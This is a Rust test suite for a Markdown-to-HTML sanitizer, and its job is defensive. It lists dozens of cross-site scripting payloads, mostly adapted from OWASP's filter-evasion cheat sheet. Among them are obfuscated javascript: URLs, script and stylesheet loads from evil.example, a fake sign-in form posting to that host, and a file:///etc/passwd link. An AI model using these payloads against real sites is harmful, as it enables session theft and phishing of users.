//! Texts that would run a script, or look like the page, if any of them got through.

use super::{html, rendered};
use crate::{
    Members,
    sanitize::clean,
    url::{is_safe_image, is_safe_link},
    verify::is_expected,
};

const SCHEMES: [&str; 16] = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106avascript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "%6Aavascript:alert(1)",
    "\u{1}javascript:alert(1)",
    "&#14; javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
];

/// Ways to name an address in Markdown.
fn carriers(url: &str) -> Vec<String> {
    vec![
        format!("[x]({url})"),
        format!("[x](<{url}>)"),
        format!("![x]({url})"),
        format!("![x](<{url}>)"),
        format!("[![x]({url})]({url})"),
        format!("[x]\n\n[x]: {url}"),
        format!("[x]\n\n[x]: <{url}> \"title\""),
        format!("<{url}>"),
        url.to_owned(),
        format!("[x]({url} \"t\\\" onmouseover=\\\"alert(1)\")"),
    ]
}

/// After OWASP's cheat sheet on filter evasion, and what is known of Markdown.
const MARKUP: [&str; 44] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "\\<a onmouseover=\"alert(document.cookie)\"\\>xxs link\\</a\\>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097alert(1)\">",
    "<SCRIPT/XSS SRC=\"https://evil.example/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=https://evil.example/xss.js?< B >",
    "<IMG SRC=\"`('XSS')\"`",
    "\\\";alert('XSS');//",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<STYLE>@import'https://evil.example/xss.css';</STYLE>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://evil.example/x.html\"></OBJECT>",
    "<a href=\"#\" style=\"position:fixed;inset:0\" class=\"overlay\" id=\"root\" data-action=\"x\">x</a>",
    "<form action=\"https://evil.example\"><button>Sign in</button></form>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "[x](https://a.example\"onmouseover=\"alert(1))",
    "[x](https://a.example 'x\" onmouseover=\"alert(1)')",
    "![x\" onerror=\"alert(1)](https://a.example/b.png)",
    "![x](https://a.example/b.png\"onerror=\"alert(1))",
    "```\"><script>alert(1)</script>\nx\n```",
    "```rust\"onload=\"alert(1)\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "||<script>alert(1)</script>||",
    "| <img src=x onerror=alert(1)> |\n| - |\n| <script>alert(1)</script> |",
];

/// Asserts that a text renders to what is allowed, by the strict reader and by ammonia alike.
pub(super) fn is_safe(source: &str) {
    let html = html(source);
    let cleaned = clean(&html);
    assert!(is_expected(&html) || html == cleaned, "{source:?}\n{html}");
    assert_eq!(shape(&html), shape(&cleaned), "{source:?}");
    assert_eq!(clean(&cleaned), cleaned, "{source:?}");
    for part in tags(&html) {
        assert!(!part.contains(" on") || part.contains('"'), "{source:?}: {part}");
        for attribute in [" style=", " id=", " data-", " onerror", " onload"] {
            assert!(!outside_quotes(&part).contains(attribute), "{source:?}: {part}");
        }
    }
}

/// The HTML in the spelling that ammonia writes.
fn shape(html: &str) -> String {
    let html = html.replace(" />", ">").replace("&quot;", "\"").replace("&#x27;", "'");
    // U+00A0 is the one character that ammonia writes as an entity of its own, and it sets two attributes in no order.
    let late = "loading=\"lazy\" referrerpolicy=\"no-referrer\"";
    html.replace("&nbsp;", "\u{a0}")
        .replace("referrerpolicy=\"no-referrer\" loading=\"lazy\"", late)
}

fn tags(html: &str) -> Vec<String> {
    let pieces = html.split('<').skip(1);
    pieces.map(|piece| piece.split('>').next().unwrap_or_default().to_owned()).collect()
}

fn outside_quotes(tag: &str) -> String {
    tag.split('"').step_by(2).collect()
}

#[test]
fn hostile_markup_is_shown_as_text() {
    for markup in MARKUP {
        for context in [
            "{}",
            "> {}",
            "- {}",
            "# {}",
            "**{}**",
            "| a |\n| - |\n| {} |",
            "[{}](/x)",
            "x {} y",
            "\n\n{}\n",
        ] {
            is_safe(&context.replace("{}", markup));
        }
    }
}

#[test]
fn hostile_addresses_are_no_targets() {
    for scheme in SCHEMES {
        for text in carriers(scheme) {
            is_safe(&text);
            for tag in tags(&html(&text)) {
                for (attribute, is_allowed) in
                    [("href=\"", is_safe_link as fn(&str) -> bool), ("src=\"", is_safe_image)]
                {
                    if let Some((_, rest)) = tag.split_once(attribute) {
                        let url = rest.split('"').next().unwrap().replace("&amp;", "&");
                        assert!(is_allowed(&url), "{text:?}: {tag}");
                        let url = url.to_ascii_lowercase();
                        assert!(!url.starts_with("javascript"), "{text:?}: {tag}");
                    }
                }
            }
        }
    }
}

#[test]
fn names_of_members_cannot_carry_markup() {
    let members: Members = [(kernel::UserId(1), "ann".to_owned())].into_iter().collect();
    let html = crate::render("@ann\"><script>alert(1)</script> @ann<b>", &members).html;
    assert!(is_expected(&html) && !html.contains("<script"), "{html}");
}

#[test]
fn images_load_late_and_tell_nobody() {
    let html = html("![a](https://a.example/b.png?c=d&e \"t\")");
    assert_eq!(
        html,
        "<p><img src=\"https://a.example/b.png?c=d&amp;e\" alt=\"a\" title=\"t\" loading=\"lazy\" \
         referrerpolicy=\"no-referrer\"></p>\n"
    );
}

#[test]
fn links_tell_crawlers_and_the_page_nothing() {
    for source in [
        "[a](https://a.example)",
        "https://a.example",
        "<https://a.example>",
        "www.a.example",
        "[a](/u/b)",
    ] {
        assert!(html(source).contains(" rel=\"nofollow ugc noopener\">"), "{source}");
    }
}

#[test]
fn images_of_elsewhere_show_their_alternative_text() {
    let rendered = rendered("![a *cat*](data:image/png;base64,AA)");
    assert_eq!(rendered.html, "<p>a cat</p>\n");
}
